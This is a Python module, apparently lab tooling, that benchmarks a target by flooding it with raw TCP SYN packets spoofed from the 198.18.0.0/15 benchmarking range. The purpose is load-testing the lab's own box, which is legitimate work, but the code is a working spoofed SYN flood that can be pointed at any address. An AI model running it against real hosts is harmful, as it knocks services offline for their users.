"""A SYN flood of the lab's own: bounded, spoofed only from the benchmarking range.

TCP SYNs to one ``VIP:port``, each from an address drawn from 198.18.0.0/15 (RFC 2544's
benchmarking range) and a random port, sent from a namespace of the lab through a raw socket
as fast as it can, until ``--packets`` are sent or ``--seconds`` have passed, whichever comes
first. The packets are made before the clock starts (a pool of distinct sources, sent round
and round), so the figure is the sender's and the kernel's, not Python's packet building.
Nothing leaves the lab: the box's answers to 198.18.0.0/15 go back to the sending namespace,
which has no such address and no route onward, and drops them.

    ip netns exec NS python -m lab.flood --vip 198.51.100.1 --port 80 --seconds 10

prints one JSON line: ``{"sent": N, "seconds": S, "pps": N/S}``.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import socket
import struct
import time

SPOOFED = ipaddress.ip_network("198.18.0.0/15")
POOL = 65536  # distinct (source, port) pairs sent round and round


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def syn(source: str, sport: int, vip: str, port: int, seq: int) -> bytes:
    """One IPv4 TCP SYN (MSS option), checksums done; the kernel fills the IP id."""
    src, dst = socket.inet_aton(source), socket.inet_aton(vip)
    options = struct.pack("!BBH", 2, 4, 1460)
    offset = (20 + len(options)) // 4 << 4
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, offset, 0x02, 64240, 0, 0) + options
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", _checksum(pseudo + tcp)) + tcp[18:]
    total = 20 + len(tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
    return ip + tcp


def packets(vip: str, port: int, count: int = POOL, seed: int = 2544) -> list[bytes]:
    """``count`` SYNs from distinct spoofed sources in 198.18.0.0/15."""
    rng = random.Random(seed)
    first, size = int(SPOOFED.network_address), SPOOFED.num_addresses
    out = []
    for _ in range(count):
        source = str(ipaddress.IPv4Address(first + rng.randrange(1, size - 1)))
        out.append(syn(source, rng.randrange(1024, 65535), vip, port, rng.getrandbits(32)))
    return out


def flood(vip: str, port: int, seconds: float, limit: int) -> dict[str, float]:
    """Send until ``limit`` packets or ``seconds``: what was sent, in how long."""
    pool = packets(vip, port)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    target = (vip, 0)
    sent = 0
    started = time.monotonic()
    deadline = started + seconds
    with sock:
        while sent < limit:
            for packet in pool[: min(len(pool), limit - sent)]:
                try:
                    sock.sendto(packet, target)
                except OSError:  # the queue full (EAGAIN, ENOBUFS): not sent, the ceiling
                    continue
                sent += 1
                if not sent % 1024 and time.monotonic() >= deadline:
                    break
            if time.monotonic() >= deadline:
                break
    took = time.monotonic() - started
    return {"sent": sent, "seconds": round(took, 3), "pps": round(sent / took, 1) if took else 0.0}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--vip", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--packets", type=int, default=10_000_000)
    args = parser.parse_args()
    if ipaddress.ip_address(args.vip) in SPOOFED:
        raise SystemExit("the target must not be in the range the sources are drawn from")
    print(json.dumps(flood(args.vip, args.port, min(args.seconds, 120.0), args.packets)))


if __name__ == "__main__":
    main()
